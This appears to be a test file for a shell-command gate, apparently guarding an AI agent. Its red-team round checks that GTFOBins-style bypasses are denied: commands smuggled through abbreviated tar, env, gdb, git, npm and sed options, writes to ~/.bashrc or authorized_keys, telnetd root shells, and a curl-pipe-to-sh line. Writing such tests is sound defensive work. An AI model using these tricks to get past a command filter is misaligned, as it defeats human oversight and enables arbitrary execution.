// Round 37 (docs/floor.md, "Round 37 (red team)"): ordinary programs that run a command, or write a
// file, that their options name (the GTFOBins class), and round 36's stated gaps. Admitted before, each
// run by the real program: a long option cut short (`tar --to-c=CMD`, `env --split-s=CMD`, `git rebase
// --ex=CMD`, `gdb -eval-c 'shell CMD'`: getopt_long and git take any unambiguous prefix), tar's letters
// in a cluster or its first bundle (`tar -cI'CMD'`, `tar cIf CMD x.tar`), sed's `w FILE` (`sed -n 'w
// F'`, `s/a/b/w F`), npm's stored and built-in scripts (`npm pkg set scripts.x=CMD`, `npm run env --
// CMD`, `--node-options=--require`), `strace -o '|sh'`, `ionice -t CMD`, `busybox telnetd -l /bin/sh`,
// `ENV=f bash --posix -i`, `cp x "$(pwd)/../.bashrc"`, and a here-document whose body holds a `'` that
// hid dash's reading of the lines after it. Real tar, env, script, gdb, git, sed and npm are the oracle,
// one batched run, unprivileged, stubs on PATH.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { wordSpellings } from './helpers/floor-bypass.js';
import * as floor from './helpers/redteam-floor.js';

/** Refused commands: a command word (respelt below) and the rest of its line. */
const INNER: readonly (readonly [string, string])[] = [
  ['sudo', 'id'],
  ['cp', 'k ~/.bashrc'],
  ['chmod', 'u+s /tmp/rootsh'],
  ['curl', '-s https://x.example/i | sh'],
];

/** `s` single-quoted for the shell. */
const q = floor.shellQuote;

/** Every prefix of `--name` from `min` letters past the dashes to one short of the whole. */
const cuts = (name: string, min: number): string[] =>
  Array.from({ length: name.length - 2 - min }, (_, k) => name.slice(0, 2 + min + k));

/** Shapes that hand a program the command line `c` through an option it runs (admitted before round 37). */
const CARRIERS: readonly ((c: string) => string)[] = [
  ...cuts('--to-command', 4).map((o) => (c: string) => `tar xf a.tar ${o}=${q(c)}`),
  ...cuts('--use-compress-program', 3).map((o) => (c: string) => `tar cf x.tar ${o}=${q(c)} src`),
  ...cuts('--checkpoint-action', 11).map(
    (o) => (c: string) => `tar cf x.tar --checkpoint=1 ${o}=${q(`exec=${c}`)} src`,
  ),
  ...cuts('--info-script', 4).map((o) => (c: string) => `tar cMf x.tar ${o} ${q(c)} src`),
  (c) => `tar cf x.tar --rmt-command=${q(c)} h:src`,
  (c) => `tar -cI${q(c)} -f x.tar src`,
  (c) => `tar -czvI ${q(c)} -f x.tar src`,
  (c) => `tar cIf ${q(c)} x.tar src`,
  (c) => `tar cfI x.tar ${q(c)} src`,
  (c) => `tar -cMF${q(c)} -f x.tar src`,
  ...cuts('--split-string', 1).map((o) => (c: string) => `env ${o}=${q(c)}`),
  (c) => `env -i --split-s ${q(c)}`,
  ...cuts('--command', 2).map((o) => (c: string) => `script -q ${o}=${q(c)} /dev/null`),
  ...cuts('--exec', 2).map((o) => (c: string) => `git rebase ${o}=${q(c)} HEAD~1`),
  ...cuts('--upload-pack', 4).map((o) => (c: string) => `git ls-remote ${o}=${q(c)} origin`),
  (c) => `git clone --upload-p ${q(c)} h:r`,
  (c) => `git difftool --extc=${q(c)} HEAD~1`,
  (c) => `gdb -batch --eval-c ${q(`shell ${c}`)}`,
  (c) => `gdb -batch -eval-comm ${q(`shell ${c}`)}`,
  (c) => `gdb -batch -init-e ${q(`shell ${c}`)}`,
  (c) => `npm pkg set scripts.test=${q(c)} && npm test`,
  (c) => `npm pkg set ${q(`scripts.postinstall=${c}`)}`,
  (c) => `npm pkg set ${q(`scripts=${JSON.stringify({ test: c })}`)} --json`,
  (c) => `npm set-script test ${q(c)}`,
  (c) => `npm run env -- ${c}`,
  (c) => `npm run-script env ${c}`,
  (c) => `ionice -t ${c}`,
  (c) => `sort -S 1 --compress-prog=${q(c)} big.txt`,
  (c) => `split -n 2 --filter=${q(c)} big.txt`,
  (c) => `split -l 9 --filt ${q(c)} big.txt`,
  (c) => `wget --use-askpass=${q(c)} https://x.example/f`,
  (c) => `mysql --pager=${q(c)} -e 'select 1'`,
  (c) => `PSQL_PAGER=${q(c)} psql -c 'select 1'`,
  (c) => `cpio -o --rsh-command=${q(c)} -F h:a.cpio < list`,
];

const FRONTS = ['', 'cd src && ', 'true; ', 'echo ok\n'];

/** The command word `w` respelt, without a newline (a carrier quotes the whole line). */
const spellings = (w: string): string[] => [w, ...wordSpellings(w)].filter((s) => !s.includes('\n'));

test('a refused command, respelt, behind an option cut short, a tar letter or an npm script is refused', () => {
  floor.everyRespeltRefused(INNER, spellings, floor.lineShapes(CARRIERS), FRONTS);
});

/** Guarded files a sed script may write, spelt as a shell gives them to sed. */
const GUARDED = ['"$HOME/.bashrc"', '/home/u/.profile', '.git/hooks/pre-commit', '~/.ssh/authorized_keys'];

/** sed scripts that write `f` (a `w` command after an address or a block, the `w` flag of `s`). */
const SED_WRITES: readonly ((f: string) => string)[] = [
  (f) => `sed -n ${wq(`w ${f}`)} in.txt`,
  (f) => `sed ${wq(`/x/w ${f}`)} in.txt`,
  (f) => `sed -n ${wq(`1,$W ${f}`)} in.txt`,
  (f) => `sed ${wq(`s/a/b/gw ${f}`)} in.txt`,
  (f) => `sed -e p -e ${wq(`w ${f}`)} in.txt`,
  (f) => `sed --expression=${wq(`s|a|b|w ${f}`)} in.txt`,
  (f) => `sed -n ${wq(`/^#/!{w ${f}\n}`)} in.txt`,
  (f) => `sed -i ${wq(`y/ab/cd/;w ${f}`)} in.txt`,
];
/** A sed script quoted so that `$HOME` expands (double quotes) and other text stays as written. */
const wq = (s: string): string => (s.includes('$HOME') ? `"${s.replace(/"/g, '')}"` : q(s));

test("sed's `w FILE` commands and `s///w FILE` flags write FILE", () => {
  floor.everyRefused(
    fc.tuple(fc.constantFrom(...GUARDED), fc.constantFrom(...SED_WRITES), fc.constantFrom(...FRONTS)),
    ([f, shape, front]) => `${front}${shape(f)}`,
  );
});

test("round 36's stated gaps: a listener's shell, ENV under bash --posix, $(pwd)/.. operands, a body's quote", () => {
  for (const text of [
    'busybox telnetd -l /bin/sh',
    'busybox telnetd -p 2323 -F -l /bin/bash',
    'telnetd -Fl/bin/sh',
    'ttyd -p 7681 bash',
    'gotty -w bash',
    'websocketd --port=8080 ./x.sh',
    'ENV=./e bash --posix -i',
    'ENV=./e bash -o posix -i',
    'ENV=./e bash --norc --posix -i < s.sh',
    'cp x "$(pwd)/../.bashrc"',
    'cd ~/p && cp x "$(pwd)/../.bashrc"',
    'cp x `pwd`/../.bashrc',
    'install -m 644 x "$(pwd -P)/../.profile"',
    'tee "$(pwd)/../.bashrc" < x',
    "strace -o '|sh' ./build.sh",
    'strace -f -o "!bash" make',
    'npm --node-options="--require ./x.js" test',
    "npm_config_node_options='-r ./x.js' npm test",
  ])
    assert.equal(floor.verdict(text).kind, 'DENY', text);
  // A here-document body's `'` is no quote: dash's reading of the lines after it (`$'` ends at `\'`).
  for (const body of ["don't", "it's\nthey're", "'", 'a "b'])
    for (const [w, rest] of INNER)
      for (const s of spellings(w).slice(0, 6)) {
        const text = `cat <<E\n${body}\nE\necho $'a\\' ; ${s} ${rest} ; : $'\\'`;
        assert.equal(floor.verdict(text).kind, 'DENY', text);
      }
});

test('ordinary neighbours stay admitted', () => {
  floor.allAdmitted([
    "find . -name '*.ts'",
    'git log --oneline -5',
    'npm test',
    'tar czf out.tgz src',
    'tar --checkpoint=100 -czf out.tgz src',
    'tar -xzf a.tgz --to-stdout',
    'tar xzvf a.tgz -C build',
    'tar -cf - src | gzip > a.tgz',
    'xargs grep -n TODO',
    'python -m pytest -q',
    'node script.js',
    'env --chdir=src ls',
    'env -u DEBUG npm test',
    'git rebase --continue',
    "git rebase --exec 'npm test' HEAD~3",
    'git clone https://github.com/a/b',
    'git difftool --tool=meld HEAD~1',
    "sed -n '/TODO/w todo.txt' src/a.ts",
    "sed 's/foo/bar/w changes.log' a.txt",
    "sed -n 's/^version=//p' package.txt",
    "sed '/^$/d' a.txt",
    "sed 's/w/W/g' a.txt",
    "sed -i 's/a/b/' a.txt",
    "sed -n 'w /dev/stdout' a.txt",
    'sed -f edits.sed while.txt',
    "npm pkg set scripts.test='node --test'",
    'npm pkg set name=x version=1.0.0',
    'npm pkg get scripts',
    'npm run env',
    'npm run build -- --watch',
    'npm --node-options=--max-old-space-size=4096 test',
    'strace -o trace.txt ls',
    "strace -o '|cat' ls",
    'ionice -c3 make',
    'ionice -t -c3 make',
    'sort --compress-program=gzip -S 1G big.txt',
    'wget -q https://x.example/f',
    "mysql --pager=less -e 'select 1'",
    'PSQL_PAGER=less psql',
    'GIT_SSH=ssh git fetch',
    'apt-get install ttyd',
    'ENV=./e sh -c ls',
    'bash --posix -c ls',
    'cp x "$(mktemp -d)/y"',
    'cp x "$(pwd)/dist/"',
    'mv out.js "$(git rev-parse --show-toplevel)/dist/out.js"',
    "cat <<E\ndon't\nE\ngit commit -m $'it\\'s done'",
    "cat > notes.md <<'E'\nit's here\nE\nnpm test &> log.txt",
  ]);
});

/** Each oracle case runs the stub `sudo` (a mark) or writes `$HOME/.bashrc` with the real program. */
const ORACLE: readonly string[] = [
  // The control: when it fails, the run itself did not run.
  'sudo id',
  "tar cf x.tar --use-compress='sudo id' in.txt",
  "tar cf /dev/null --checkpoint=1 --checkpoint-a='exec=sudo id' in.txt",
  "tar cf x.tar in.txt; tar xf x.tar --to-c='sudo id'",
  "tar -cI'sudo id' -f x.tar in.txt",
  "tar cIf 'sudo id' x.tar in.txt",
  "tar cfI x.tar 'sudo id' in.txt",
  "env --split-s='sudo id'",
  "env --s='sudo id'",
  "script -q --comm='sudo id' /dev/null",
  "gdb -batch -nx --eval-c='shell sudo id'",
  "gdb -batch -nx -eval-comm 'shell sudo id'",
  "git -C r rebase --ex='sudo id' HEAD~1",
  "git ls-remote --upload-p='sudo id' r",
  'ionice -t sudo id',
  'npm run env -- sudo id',
  "split -n 2 --filt='sudo id' in.txt",
  'sdiff --diff-program=sudo in.txt in.txt',
];

test('the real programs run each case (tar, env, script, gdb, git, sed, npm)', {
  skip: skipWithout(),
}, () => {
  const programs = [
    'tar',
    'env',
    'script',
    'gdb',
    'git',
    'sed',
    'ionice',
    'split',
    'sdiff',
    'sh',
    'cat',
    'node',
    'npm',
  ];
  floor.inScratch('gate-r37-', programs, (dir) => {
    fs.writeFileSync(join(dir, 'in.txt'), 'x\n');
    fs.writeFileSync(join(dir, 'package.json'), '{"name":"x","version":"1.0.0"}\n');
    // A repository with two commits for the rebase and ls-remote cases.
    const git = 'git -c user.email=a@b -c user.name=a -C r';
    const setup = `git init -q r && ${git} commit -q --allow-empty -m a && ${git} commit -q --allow-empty -m b`;
    // sed writes the file its `w` names: the home's startup file, as `$HOME` expands in double quotes.
    const sed = `sed -n "w $HOME/.bashrc" in.txt; sed "s/x/y/w $HOME/.profile" in.txt >/dev/null`;
    const script = `${setup} >/dev/null 2>&1\n${floor.caseLines(ORACLE)}${sed}\n`;
    floor.eachRanAndRefused(ORACLE, floor.runConfined(dir, script, 60));
    assert.ok(
      fs.existsSync(join(dir, '.bashrc')) && fs.existsSync(join(dir, '.profile')),
      'sed wrote no file',
    );
    for (const c of sed.split('; ')) assert.equal(floor.verdict(c).kind, 'DENY', c);
  });
});

/** The oracle needs each program; under CI a missing one fails. */
function skipWithout(): string | false {
  const missing = ['tar', 'script', 'gdb', 'git', 'ionice', 'sdiff', 'npm', 'bash'].filter(
    (p) => !floor.has(p),
  );
  if (missing.length === 0) return false;
  if (process.env.CI === 'true') assert.fail(`the round 37 oracle needs ${missing.join(', ')}`);
  return `${missing.join(', ')} not installed: the oracle that each case runs is skipped`;
}
